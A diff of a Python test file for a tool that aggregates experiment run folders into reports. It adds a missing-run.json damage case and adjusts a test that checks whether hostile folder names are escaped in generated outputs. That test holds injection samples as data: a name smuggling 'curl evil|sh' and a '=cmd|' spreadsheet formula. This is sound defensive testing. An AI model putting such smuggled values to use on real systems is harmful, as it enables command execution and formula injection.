@@ -54,13 +54,14 @@ def refused(done, message: str) -> None:
 
 
 def unreadable(run: RunDir) -> str:
-    """Why a report on this folder and on a good one leaves it out; the good one must be counted."""
+    """Why a report on this folder and on a good one excludes it; the good one must be counted."""
     good = run.path.parent / "good"
     if not good.exists():
         shutil.copytree(OLD[1].path, good)
     runs = load.load([run.path.parent])
     assert runs.finished["folder"].tolist() == [str(good)]
-    return runs.unreadable[str(run.path)]
+    interrupted = runs.unfinished
+    return (dict(zip(interrupted["folder"], interrupted["reason"], strict=True)) | runs.unreadable)[str(run.path)]
 
 
 @pytest.mark.parametrize("state", State)
@@ -190,6 +191,7 @@ DAMAGE = {
         "its metrics.csv is not the one that it finished with",
     ),
     "no predictions.csv": (lambda run: run.predictions.unlink(), "its predictions.csv is missing"),
+    "no run.json": (lambda run: run.status.unlink(), "its run.json is missing"),
     "a damaged run.json": (lambda run: run.status.write_text('{"state": "fini\n'), "run.json can't be read: Invalid"),
 }
 
@@ -289,7 +291,7 @@ def test_hostile_names_reach_no_terminal_no_spreadsheet_and_no_page(report):
             cells = [cell for row in csv.reader(text.splitlines()) for cell in row]
             assert not [cell for cell in cells if cell.startswith(("=", "+c", "@"))], name
     assert any("'=cmd|" in text for name, text in files.items() if name.endswith(".csv"))
-    assert "\npython aggregate.py 'outputs; curl evil|sh #'\n" in files["report.md"]
+    assert " \"out='outputs; curl evil|sh #'\"\n" in files["report.md"]
     assert "\\input{x}" not in files["report.tex"]
     assert "[bold]" in files["report.html"]
 
